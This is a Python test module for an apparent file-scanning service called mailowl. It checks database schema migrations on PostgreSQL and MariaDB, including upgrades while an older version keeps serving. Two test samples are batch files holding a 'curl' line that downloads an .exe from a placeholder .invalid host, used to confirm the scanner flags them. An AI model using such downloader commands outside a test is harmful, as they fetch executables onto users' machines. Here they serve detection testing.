"""Migrations on a private PostgreSQL and a private MariaDB (issue 10 point 3): from an empty database to the
head, and from the previous version's schema while an instance of the previous version serves requests.

The previous version is the commit before the newest schema change, checked out from this repository's
git history into a temporary worktree and run from there (same virtualenv, PYTHONPATH=<worktree>/src):

- HEAD itself when the working tree holds an uncommitted migration (one being written),
- otherwise the parent of the last commit that changed src/mailowl/store/migrations/versions,
- or PREVIOUS_MAILOWL_COMMIT (any commit) when set (not MAILOWL_…: mailowl refuses unknown MAILOWL_ variables).

Checked: the old instance creates its own schema; `mailowl db upgrade` of the current code migrates it to
the head while the old instance takes submissions, every one of which is answered 200 with the right
verdict during and after the upgrade; a current instance then starts on the upgraded database and reads
the old instance's jobs; the old version refuses to start on the newer schema instead of using it.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from .private_db import KINDS, private_database
from .server import Server
from .test_crash import sample
from .test_db_restart import Load

REPO = Path(__file__).absolute().parent.parent
VERSIONS = "src/mailowl/store/migrations/versions"


def _git(*args: str) -> str:
    return subprocess.run(["git", "-C", str(REPO), *args], check=True, capture_output=True, text=True,
                          timeout=120).stdout.strip()


def _newest_migration_at(commit: str) -> str:
    return max((name for name in _git("ls-tree", "--name-only", f"{commit}:{VERSIONS}").split()
                if name.endswith(".py")), default="")


def previous_version() -> str:
    """The commit of the previous version (see the module's docstring); skips without git history."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed: the previous version is taken from the git history")
    try:
        _git("rev-parse", "--verify", "HEAD")
    except subprocess.CalledProcessError:
        pytest.skip(f"{REPO} is not a git checkout: the previous version is taken from the git history")
    wanted = os.environ.get("PREVIOUS_MAILOWL_COMMIT")
    if wanted:
        return _git("rev-parse", "--verify", f"{wanted}^{{commit}}")
    newest = max(p.name for p in (REPO / VERSIONS).glob("*.py"))
    # the newest commit without the working tree's newest migration: HEAD when it is not committed yet,
    # else the parent of the commit that added it (later edits of migration files are passed over)
    candidates = ["HEAD"] + [f"{c}^" for c in _git("log", "--format=%H", "--", VERSIONS).split()]
    for candidate in candidates:
        try:
            commit = _git("rev-parse", "--verify", "--quiet", f"{candidate}^{{commit}}")
        except subprocess.CalledProcessError:
            shallow = _git("rev-parse", "--is-shallow-repository") == "true"
            pytest.skip(f"{candidate} is not in this checkout{' (a shallow clone: fetch the history)' if shallow else ''}")
        if _newest_migration_at(commit) != newest:
            return commit
    pytest.skip("every commit in this checkout has the newest migration")


def _head(migrations: Path) -> str:
    from alembic.config import Config
    from alembic.script import ScriptDirectory

    cfg = Config()
    cfg.set_main_option("script_location", str(migrations))
    head = ScriptDirectory.from_config(cfg).get_current_head()
    assert head is not None
    return head


CURRENT_MIGRATIONS = REPO / "src/mailowl/store/migrations"


@pytest.fixture(scope="module")
def old_tree() -> Iterator[Path]:
    """A worktree of the previous version in a temporary folder, removed afterwards."""
    commit = previous_version()
    folder = Path(tempfile.mkdtemp(prefix="mailowl-previous-"))
    tree = folder / "tree"
    _git("worktree", "add", "--detach", str(tree), commit)
    try:
        yield tree
    finally:
        subprocess.run(["git", "-C", str(REPO), "worktree", "remove", "--force", str(tree)], capture_output=True,
                       timeout=120)
        shutil.rmtree(folder, ignore_errors=True)
        subprocess.run(["git", "-C", str(REPO), "worktree", "prune"], capture_output=True, timeout=120)


def _revision(url: str) -> str | None:
    async def read() -> str | None:
        from sqlalchemy import text
        from sqlalchemy.ext.asyncio import create_async_engine

        engine = create_async_engine(url)
        try:
            async with engine.connect() as conn:
                tables = await conn.run_sync(lambda sync: __import__("sqlalchemy").inspect(sync).get_table_names())
                if "alembic_version" not in tables:
                    return None
                return (await conn.execute(text("SELECT version_num FROM alembic_version"))).scalar_one()
        finally:
            await engine.dispose()

    return asyncio.run(read())


def db_upgrade(config: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "mailowl.cli", "db", "upgrade", "--config", str(config)],
                          capture_output=True, text=True, timeout=300, env={**os.environ, **(env or {})})


def _check(server: Server, job_id: int, n: int) -> None:
    _, content, expected = sample(n)
    status, payload, _ = server.request("GET", f"/v2/jobs/{job_id}?wait=30")
    assert status == 200 and payload["state"] == "done", (job_id, payload)
    assert payload["sample"]["sha256"] == hashlib.sha256(content).hexdigest(), (job_id, n, payload)
    assert payload["result"] == expected, (job_id, n, payload)


@pytest.mark.parametrize("kind", KINDS)
def test_upgrade_from_an_empty_database(kind: str, tmp_path: Path) -> None:
    with private_database(kind) as db:
        config = tmp_path / "mailowl.toml"
        config.write_text(f'[store]\nurl = "{db.url}"\n')
        assert _revision(db.url) is None
        done = db_upgrade(config)
        assert done.returncode == 0, done.stderr
        assert _revision(db.url) == _head(CURRENT_MIGRATIONS)
        again = db_upgrade(config)  # nothing left to do
        assert again.returncode == 0 and _revision(db.url) == _head(CURRENT_MIGRATIONS), again.stderr
        owl = Server(tmp_path / "owl", config.read_text())
        try:
            status, payload, _ = owl.scan(b"@echo off\r\ncurl http://x.invalid/a.exe\r\n", "a.bat")
            assert status == 200, payload
            assert owl.verdict(payload["job_id"])["result"] == "bad"
        finally:
            owl.stop()


@pytest.mark.parametrize("kind", KINDS)
def test_upgrade_while_the_previous_version_serves(kind: str, tmp_path: Path, old_tree: Path) -> None:
    old_head, head = _head(old_tree / "src/mailowl/store/migrations"), _head(CURRENT_MIGRATIONS)
    assert old_head != head, f"the previous version ({old_tree}) has the current schema {head}"
    old_env = {"PYTHONPATH": str(old_tree / "src")}
    with private_database(kind) as db:
        config = f'[store]\nurl = "{db.url}"\n'
        old = Server(tmp_path / "old", config, env=old_env)
        new: Server | None = None
        load: Load | None = None
        try:
            assert _revision(db.url) == old_head  # the old code made the schema: it is the one running
            load = Load([old])
            load.start()
            begin = time.monotonic()
            load.wait_for("submissions before the upgrade", lambda: load.count(begin, 200) >= 20)

            (tmp_path / "mailowl.toml").write_text(config)
            upgrading = time.monotonic()
            done = db_upgrade(tmp_path / "mailowl.toml")
            upgraded = time.monotonic()
            assert done.returncode == 0, done.stderr
            assert _revision(db.url) == head
            load.wait_for("submissions to the old instance after the upgrade",
                          lambda: load.count(upgraded, 200) >= 20)

            new = Server(tmp_path / "new", config)  # the current version on the upgraded database
            status, payload, _ = new.scan(b"@echo off\r\nrem new\r\ncurl http://x.invalid/n.exe\r\n", "n.bat")
            assert status == 200, payload
            assert new.verdict(payload["job_id"])["result"] == "bad"
            after_new = time.monotonic()
            load.wait_for("submissions to the old instance next to a new one",
                          lambda: load.count(after_new, 200) >= 20)
            load.stop()

            wrong = [a for a in load.answers if a.status != 200]
            assert not wrong, f"answers other than 200 (the upgrade ran from {upgrading:.1f} to {upgraded:.1f}): " \
                              f"{wrong[:5]}"
            assert any(a.began <= upgrading for a in load.answers)
            assert any(upgrading <= a.began <= upgraded for a in load.answers) or upgraded - upgrading < 1, \
                "no submission ran during the upgrade"
            print(f"{kind}: {old_head} -> {head} in {upgraded - upgrading:.1f} s; {len(load.answers)} submissions, "
                  f"{sum(upgrading <= a.began <= upgraded for a in load.answers)} during the upgrade")
            for a in load.answers:
                assert a.job_id is not None
                _check(old, a.job_id, a.n)  # as the old instance answers
                _check(new, a.job_id, a.n)  # as the database holds them, read by the new version
            assert old.proc.poll() is None and new.proc.poll() is None
        finally:
            if load is not None:
                load.done.set()
            old.stop()
            if new is not None:
                new.stop()

        # the previous version does not start on a schema it does not know (it does not use it half-way)
        refused = subprocess.run(
            [sys.executable, "-m", "mailowl.cli", "db", "upgrade", "--config", str(tmp_path / "mailowl.toml")],
            capture_output=True, text=True, timeout=300, env={**os.environ, **old_env})
        assert refused.returncode != 0, refused.stdout
        assert head in refused.stderr, refused.stderr[-2000:]
        assert _revision(db.url) == head
